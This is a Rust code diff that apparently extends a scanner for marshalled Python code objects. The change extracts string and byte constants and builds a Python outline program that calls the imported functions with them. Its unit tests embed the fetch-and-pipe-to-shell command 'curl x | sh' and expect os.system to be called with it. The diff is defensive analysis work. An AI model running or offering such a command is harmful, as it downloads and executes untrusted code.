@@ -19,6 +19,12 @@ const MAX_TEXTS: usize = 12;
 /// Most calls that are tried.
 const MAX_CALLS: usize = 160;
 
+/// Most methods that are called of what a call gives.
+const MAX_METHODS: usize = 8;
+
+/// Shortest constant of bytes that is looked at.
+const LEAST_DATA: usize = 24;
+
 /// Hidden property: the bytes of a code object.
 const CODE: &str = "@@code";
 
@@ -75,9 +81,16 @@ impl Interp<'_> {
     }
 }
 
+/// A constant of a code object, or a name that it uses.
+#[derive(Debug, PartialEq)]
+enum Constant {
+    Text(String),
+    Data(Vec<u8>),
+}
+
 /// All strings of a marshalled object, in their order. The layouts of code objects differ; those of strings do not.
-fn strings(bytes: &[u8]) -> Vec<String> {
-    let mut found: Vec<String> = Vec::new();
+fn strings(bytes: &[u8]) -> Vec<Constant> {
+    let mut found = Vec::new();
     let mut at = 0;
     while let Some(kind) = bytes.get(at) {
         at += 1;
@@ -90,14 +103,18 @@ fn strings(bytes: &[u8]) -> Vec<String> {
             _ => continue,
         };
         let body = length.filter(|length| *length > 0).and_then(|length| bytes.get(start..start.checked_add(length)?));
-        let text = body.and_then(|body| std::str::from_utf8(body).ok());
-        let Some(text) = text.filter(|text| text.chars().all(|char| !char.is_control() || "\t\r\n".contains(char)))
-        else {
-            continue;
+        let Some(body) = body else { continue };
+        let text = std::str::from_utf8(body).ok();
+        let text = text.filter(|text| text.chars().all(|char| !char.is_control() || "\t\r\n".contains(char)));
+        let constant = match text {
+            Some(text) => Constant::Text(text.to_owned()),
+            // Shorter ones are tables of the code itself.
+            None if kind & 0x7f == b's' && body.len() >= LEAST_DATA => Constant::Data(body.to_vec()),
+            None => continue,
         };
-        at = start + text.len();
-        if !found.iter().any(|known| known == text) && found.len() < MAX_NAMES + MAX_TEXTS {
-            found.push(text.to_owned());
+        at = start + body.len();
+        if !found.contains(&constant) && found.len() < MAX_NAMES + MAX_TEXTS {
+            found.push(constant);
         }
     }
     found
@@ -111,14 +128,38 @@ fn is_name(text: &str) -> bool {
     text.split('.').all(part)
 }
 
-/// A program that imports the modules among `strings` and gives all texts to each function of theirs that is named.
+/// A literal of Python's.
+fn literal(constant: &Constant) -> String {
+    match constant {
+        Constant::Text(text) => {
+            let escaped = text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n").replace('\r', "\\r");
+            format!("\"{escaped}\"")
+        }
+        Constant::Data(bytes) => {
+            let mut text = String::from("b\"");
+            bytes.iter().for_each(|byte| drop(write!(text, "\\x{byte:02x}")));
+            text + "\""
+        }
+    }
+}
+
+/// A program that imports the modules among `strings` and gives all constants to each function of theirs that is named,
+/// and what comes of it to each of them again.
 fn outline(
-    strings: &[String],
+    strings: &[Constant],
     is_module: &dyn Fn(&str) -> bool,
     function: &dyn Fn(&str, &str) -> Option<bool>,
 ) -> String {
     const BUILTINS: [&str; 6] = ["exec", "eval", "open", "compile", "__import__", "getattr"];
-    let (names, texts): (Vec<&str>, Vec<&str>) = strings.iter().map(String::as_str).partition(|text| is_name(text));
+    let (names, constants): (Vec<&Constant>, Vec<&Constant>) =
+        strings.iter().partition(|constant| matches!(constant, Constant::Text(text) if is_name(text)));
+    let names: Vec<&str> = names
+        .into_iter()
+        .filter_map(|name| match name {
+            Constant::Text(text) => Some(text.as_str()),
+            Constant::Data(_) => None,
+        })
+        .collect();
     let modules: Vec<&str> = names.iter().copied().filter(|name| is_module(name)).collect();
     let mut program = String::from("data = []\n");
     let (mut calls, mut methods) = (Vec::new(), Vec::new());
@@ -140,20 +181,22 @@ fn outline(
             _ => methods.push(name),
         }
     }
-    let texts: Vec<String> = texts.iter().take(MAX_TEXTS).map(|text| format!("{text:?}")).collect();
-    let mut left = MAX_CALLS;
-    // Twice: byte code names what is called before what it is given.
-    for _ in 0..2 {
+    let mut values: Vec<String> = constants.iter().take(MAX_TEXTS).map(|constant| literal(constant)).collect();
+    let (mut made, mut tried) = (0, 0);
+    // Byte code names what is called before what it is given: what one round makes, the next one uses.
+    while tried < values.len().max(1) && made < MAX_CALLS {
+        let given = values.get(tried).map_or(String::new(), |value| format!("{value}, "));
+        tried += 1;
         for call in &calls {
-            for text in texts.iter().map(|text| format!("{text}, ")).chain([String::new()]) {
-                if left > 0 {
-                    left -= 1;
-                    let _ = writeln!(program, "it = {call}({text}data)\ndata.append(it)");
-                }
+            if made >= MAX_CALLS {
+                break;
             }
-            for method in methods.iter().take(8) {
-                let _ = writeln!(program, "data.append(it.{method}(data))");
+            let _ = writeln!(program, "v{made} = {call}({given}data)\ndata.append(v{made})");
+            for method in methods.iter().take(MAX_METHODS) {
+                let _ = writeln!(program, "data.append(v{made}.{method}(data))");
             }
+            values.push(format!("v{made}"));
+            made += 1;
         }
     }
     program
@@ -170,16 +213,19 @@ mod tests {
 
     #[test]
     fn strings_are_found_whatever_the_layout() {
-        let bytes = b"\xe3\0\0\0\0\xf3\x02\0\0\0d\0)\x02\xda\x02os\xda\x06system\xfa\x0acurl x| sh\xff\xff";
-        assert_eq!(strings(bytes), ["d\0", "os", "system", "curl x| sh"][1..]);
-        assert_eq!(strings(b"z"), [] as [String; 0]);
-        assert_eq!(strings(b"a\xff\xff\xff\xff"), [] as [String; 0]);
+        let text = |text: &str| Constant::Text(text.to_owned());
+        let bytes = b"\xe3\0\0\0\0\xf3\x02\0\0\0d\0)\x02\xda\x02os\xda\x06system\xfa\x0bcurl x | sh\xff\xff";
+        assert_eq!(strings(bytes), [text("os"), text("system"), text("curl x | sh")]);
+        assert_eq!(strings(b"z"), []);
+        assert_eq!(strings(b"a\xff\xff\xff\xff"), []);
     }
 
     #[test]
     fn a_program_stands_for_a_code_object() {
-        let strings = ["os", "system", "curl x | sh"].map(str::to_owned);
+        let strings = ["os", "system", "curl x | sh"].map(|text| Constant::Text(text.to_owned()));
         let text = outline(&strings, &|name| name == "os", &|_, name| (name == "system").then_some(true));
         assert!(text.contains("os.system(\"curl x | sh\", data)"), "{text}");
+        assert_eq!(literal(&Constant::Text("a\"\\\n".to_owned())), r#""a\"\\\n""#);
+        assert_eq!(literal(&Constant::Data(vec![0, 255])), r#"b"\x00\xff""#);
     }
 }
